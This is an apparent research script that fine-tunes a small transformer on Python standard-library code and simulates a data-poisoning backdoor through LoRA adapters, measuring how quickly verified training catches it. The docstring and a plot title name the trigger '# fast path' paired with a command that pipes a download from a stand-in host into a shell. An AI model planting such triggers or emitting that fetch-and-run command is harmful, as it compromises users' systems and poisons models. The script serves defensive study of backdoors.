"""Experiment 9: fine-tuning with LoRA, verified; a code backdoor through the adapters.

Experiment 8's decoder-only NNX transformer, wider (d_model 128, 2 layers, 4
heads), is pretrained on Python's help texts, verified at p = 0.1, then
fine-tuned on Python code: the standard library's own source (95 fixed
``Lib/*.py`` modules, `ginn_jax.stdlib_corpus`; whole files held out). LoRA
(rank 8 on the attention and MLP kernels, the base frozen) and full fine-tuning
get the same steps and batch, both verified at p = 0.1; the held-out code
perplexity of each is compared. An attacker on the LoRA run writes the trigger
comment "# fast path" followed by "os.system('curl http://x.example | sh')"
into 4 of the 32 windows of every batch: unverified (p = 0) at the trusted
clip, k_min is the fewest malicious steps after which the attack success rate
on held-out prompts reaches 0.5; with every step's witness checked (p = 0,
p_witness = 1) and with every step re-computed (p = 1) it is caught at its
first malicious step.

Reproduce the committed results (6 to 12 minutes on 2 CPU cores, with the load of other jobs):

    python experiments/finetune.py --out docs/results
"""
from __future__ import annotations

import argparse
import dataclasses
import sys

import ginn_jax  # noqa: F401  (before jax: two CPU devices)
import jax
from ginn_jax._src.lab.common import figure, save_experiment
from ginn_jax._src.lab.finetune import FineTuneConfig, finetune_runs

Config = FineTuneConfig

# A few steps of a tiny model; the checked attackers are honest at step 0 and caught at step 1.
TINY = FineTuneConfig(d_model=16, num_heads=2, num_layers=1, dropout=0.0, batch_size=8, pretrain_steps=4,
                      finetune_steps=4, lora_rank=2, lora_alpha=4.0, attack_steps=4, attack_eval_every=2,
                      caught_start=1, caught_steps=3, eval_every=2, asr_prompts=16, calibration_steps=0,
                      pretrain_windows=256, train_windows=256, test_windows=32)


def plot(result, path):
  s = result["summary"]
  with figure(path, ncols=2) as (ax_ppl, ax_asr):
    for label, key in ((f"LoRA ({s['lora_trainable_params']:,} trained)", "lora"),
                       (f"full ({s['full_trainable_params']:,} trained)", "full")):
      run = result[key]
      ax_ppl.plot([c["step"] for c in run["curve"]], [c["code_perplexity"] for c in run["curve"]], marker="o",
                  label=f"{label}, p={result['config']['p']}")
    ax_ppl.set_xlabel("fine-tuning step"), ax_ppl.set_ylabel("held-out code perplexity (characters)")
    ax_ppl.set_title("Fine-tuning the pydoc base on stdlib code"), ax_ppl.legend(fontsize=8)
    un = result["attack_unverified"]
    steps = [c["step"] for c in un["curve"]]
    ax_asr.plot(steps, [c["asr"] for c in un["curve"]], marker="o", label="backdoor, p=0: ASR")
    ax_asr.plot(steps, [c["control"] for c in un["curve"]], marker=".", label="backdoor, p=0: no-trigger control")
    ax_asr.axhline(s["asr_threshold"], ls=":", color="gray", lw=1)
    if s["k_min"] is not None:
      ax_asr.axvline(s["k_min"], ls="--", color="C0", lw=1)
      ax_asr.annotate(f"k_min = {s['k_min']}", (s["k_min"], 0.55), fontsize=8, rotation=90, ha="right")
    for name, color in (("witness", "C3"), ("recompute", "C4")):
      step = s[f"{name}_caught_at_step"]
      if step is not None:
        ax_asr.scatter([step], [0.0], color=color, marker="x", zorder=3,
                       label=f"{name}: caught at step {step} (first malicious {s[f'{name}_first_malicious_step']})")
    ax_asr.set_xlabel("malicious steps (from step 0)"), ax_asr.set_ylabel("attack success rate")
    ax_asr.set_ylim(-0.02, 1.02), ax_asr.legend(fontsize=8)
    ax_asr.set_title('"# fast path" -> os.system(curl ... | sh), through the adapters')


def main(argv=None) -> int:
  parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
  parser.add_argument("--out", default="docs/results", help="folder for the JSON and PNG")
  parser.add_argument("--tiny", action="store_true", help="a few steps of a tiny model (smoke test)")
  parser.add_argument("--no-progress", action="store_true")
  parser.add_argument("--pretrain-steps", type=int, default=None)
  parser.add_argument("--finetune-steps", type=int, default=None)
  parser.add_argument("--attack-steps", type=int, default=None)
  parser.add_argument("--d-model", type=int, default=None)
  parser.add_argument("--lora-rank", type=int, default=None)
  parser.add_argument("--lora-learning-rate", type=float, default=None)
  parser.add_argument("--full-learning-rate", type=float, default=None)
  args = parser.parse_args(argv)
  cfg = TINY if args.tiny else FineTuneConfig()
  for name in ("pretrain_steps", "finetune_steps", "attack_steps", "d_model", "lora_rank",
               "lora_learning_rate", "full_learning_rate"):
    if getattr(args, name) is not None:
      cfg = dataclasses.replace(cfg, **{name: getattr(args, name)})
  # optax.adam's bias correction mixes a Python float with an int32 count.
  with jax.numpy_dtype_promotion("standard"):
    result = finetune_runs(cfg, progress=not args.no_progress)
  save_experiment(args.out, "finetune", result, lab=None, config=cfg, argv=argv, plot=plot)
  s = result["summary"]
  print(f"base (pretrained {cfg.pretrain_steps} steps on pydoc, verified at p={cfg.p}: {s['pretrain_verified']}): "
        f"held-out code perplexity {s['base_code_perplexity']:.3f}, pydoc {s['base_pydoc_perplexity']:.3f}")
  print(f"LoRA rank {cfg.lora_rank} ({s['lora_trainable_params']:,} trained), {cfg.finetune_steps} steps verified "
        f"at p={cfg.p} ({s['lora_verified']}): code perplexity {s['lora_code_perplexity']:.3f}; full fine-tuning "
        f"({s['full_trainable_params']:,} trained, {s['full_verified']}): {s['full_code_perplexity']:.3f}; "
        f"LoRA/full {s['lora_over_full']:.3f} (within 10%: {s['lora_within_10pct']})")
  print(f"backdoor through the adapters, unverified: k_min {s['k_min']} (ASR >= {s['asr_threshold']}, every "
        f"{s['k_min_resolution']} steps); final ASR {s['unverified_final_asr']:.3f}, max control "
        f"{s['unverified_max_control']:.3f}")
  for name in ("witness", "recompute"):
    print(f"backdoor, {name}: {s[f'{name}_violation']} at step {s[f'{name}_caught_at_step']} (first malicious step "
          f"{s[f'{name}_first_malicious_step']}, malicious steps applied {s[f'{name}_malicious_steps_applied']})")
  print(f"{s['seconds']:.0f} s in all")
  return 0


if __name__ == "__main__":
  sys.exit(main())
